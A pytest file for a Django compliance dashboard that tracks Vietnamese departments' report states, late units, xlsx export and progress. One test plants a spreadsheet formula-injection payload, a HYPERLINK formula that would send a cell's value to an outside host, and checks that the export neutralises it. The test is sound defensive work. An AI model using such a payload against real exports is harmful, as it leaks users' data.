"""The compliance dashboard: counts against a known fixture, late units, progress, xlsx, drill-down."""

import datetime
import io

import openpyxl
import pytest
from django.utils import timezone

from tests.journey import issued_obligation
from workflows.models import UnitReport
from workflows.reports import dashboard

D = datetime.date


@pytest.fixture
def known(journey, on_day):
    """19 departments on 16/3/2025; states set to a known mix, due 1/5/2025."""
    obligation = issued_obligation(journey, on_day, title="Báo cáo tổng kết", recipients=["Các sở, ban, ngành"],
                                   due_date=D(2025, 5, 1))
    reports = {r.unit.key: r for r in UnitReport.objects.filter(obligation=obligation).select_related("unit")}
    now = timezone.now()
    UnitReport.objects.filter(pk__in=[reports[k].pk for k in ("tn-stp", "tn-stc", "tn-syt")]).update(
        state="accepted", submitted_at=now, accepted_at=now)
    UnitReport.objects.filter(pk=reports["tn-sxd"].pk).update(state="submitted", submitted_at=now)
    UnitReport.objects.filter(pk=reports["tn-sct"].pk).update(state="returned")
    UnitReport.objects.filter(pk=reports["tn-sgddt"].pk).update(state="drafting")
    return obligation, reports


def test_counts_by_state_and_overdue(known, django_assert_max_num_queries):
    obligation, reports = known
    total = len(reports)
    with django_assert_max_num_queries(2):
        counts = dashboard.state_counts(reports=dashboard.plan_reports(process=obligation.plan), today=D(2025, 5, 5))
    assert counts["accepted"] == 3 and counts["submitted"] == 1 and counts["returned"] == 1 and counts["drafting"] == 1
    assert counts["not_received"] == total - 6 and counts["total"] == total
    assert counts["overdue"] == total - 3  # every one not accepted is past 1/5/2025 on 5/5/2025
    before = dashboard.state_counts(reports=dashboard.plan_reports(process=obligation.plan), today=D(2025, 4, 30))
    assert before["overdue"] == 0


def test_late_units_show_days_late_and_the_holder(known, users):
    obligation, reports = known
    UnitReport.objects.filter(pk=reports["tn-sgddt"].pk).update(assignee=users["cv.stp"])
    late = dashboard.late_units(reports=dashboard.plan_reports(process=obligation.plan), today=D(2025, 5, 5))
    by_unit = {row["unit"].key: row for row in late}
    assert "tn-stp" not in by_unit and by_unit["tn-sct"]["days_late"] == 4
    assert by_unit["tn-sgddt"]["holder"] == "Lý Thị Hoa"
    assert by_unit["tn-snv"]["holder"] == "(chưa nhận)"  # still waiting in its clerk's queue


def test_the_dashboard_page_chart_and_drill_down(known, client, users):
    obligation, reports = known
    client.force_login(users["th.snv"])
    page = client.get(f"/dashboard/plan/{obligation.plan_id}/").content.decode()
    assert 'id="kh-chart"' in page and "chart.umd.min.js" in page and "Đơn vị quá hạn" in page
    assert "Sở Công Thương" in page  # returned, overdue
    overview = client.get("/dashboard/").content.decode()
    assert obligation.plan.plan.symbol in overview
    unit_page = client.get(f"/dashboard/unit/{reports['tn-sct'].unit_id}/").content.decode()
    assert "Bị trả lại" in unit_page
    client.force_login(users["cv.khason"])
    assert client.get(f"/dashboard/plan/{obligation.plan_id}/").status_code == 404


def test_the_dashboard_page_takes_the_same_queries_for_few_or_many_late_units(known, client, users):
    """The late units are printed in a fixed number of queries (no query per row: state, link, holder)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    obligation, reports = known
    url = f"/dashboard/plan/{obligation.plan_id}/"
    client.force_login(users["th.snv"])
    client.get(url)
    with CaptureQueriesContext(connection) as many:
        page = client.get(url).content.decode()
    assert "Sở Công Thương" in page and "Bị trả lại" in page
    late_before = page.count("/dashboard/unit/")
    now = timezone.now()
    UnitReport.objects.filter(obligation=obligation).exclude(pk=reports["tn-sct"].pk).update(
        state="accepted", submitted_at=now, accepted_at=now)
    with CaptureQueriesContext(connection) as few:
        page = client.get(url).content.decode()
    assert page.count("/dashboard/unit/") < late_before and "Sở Công Thương" in page
    assert len(few) == len(many)


def test_xlsx_export_is_readable_by_openpyxl(known, client, users):
    obligation, reports = known
    client.force_login(users["th.snv"])
    response = client.get(f"/dashboard/plan/{obligation.plan_id}/xlsx/")
    assert response.status_code == 200 and "theo-doi-1-KH-UBND.xlsx" in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Tổng hợp", "Đơn vị"]
    summary = {row[0]: row[1] for row in book["Tổng hợp"].iter_rows(min_row=5, values_only=True) if row[0]}
    assert summary["Đã chấp nhận"] == 3 and summary["Tổng số"] == len(reports)
    units = list(book["Đơn vị"].iter_rows(min_row=2, values_only=True))
    assert len(units) == len(reports)
    assert any(row[1] == "Sở Tư pháp" and row[4] == "Đã chấp nhận" for row in units)


def test_xlsx_export_has_each_units_role(journey, on_day, client, users):
    """Vai trò: an assignment row's chủ trì and phối hợp units, as on the plan page; no cell a formula, even where
    the drafter typed one as the row's content."""
    from workflows.models import ObligationKind

    typed = '=HYPERLINK("http://x?leak="&A1)'
    obligation = issued_obligation(
        journey, on_day, title=typed, kind=ObligationKind.TASK, recipients=["Sở Tư pháp"], due_date=D(2025, 5, 30),
        task_row={"content": typed, "lead": "Sở Tư pháp", "cooperating": "Sở Tài chính, Sở Xây dựng", "deadline": "30/5/2025"})
    client.force_login(users["th.snv"])
    response = client.get(f"/dashboard/plan/{obligation.plan_id}/xlsx/")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Đơn vị"]
    header = [cell.value for cell in sheet[1]]
    assert header[:4] == ["STT", "Đơn vị", "Vai trò", "Nhiệm vụ"]
    roles = {row[1]: row[2] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert roles == {"Sở Tư pháp": "Chủ trì", "Sở Tài chính": "Phối hợp", "Sở Xây dựng": "Phối hợp"}
    titles = [row[3] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in titles} == {typed} and {c.data_type for c in titles} == {"s"}
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_progress_over_time(known):
    obligation, _reports = known
    rows = dashboard.progress(reports=dashboard.plan_reports(process=obligation.plan))
    assert rows[-1]["submitted"] == 4 and rows[-1]["accepted"] == 3
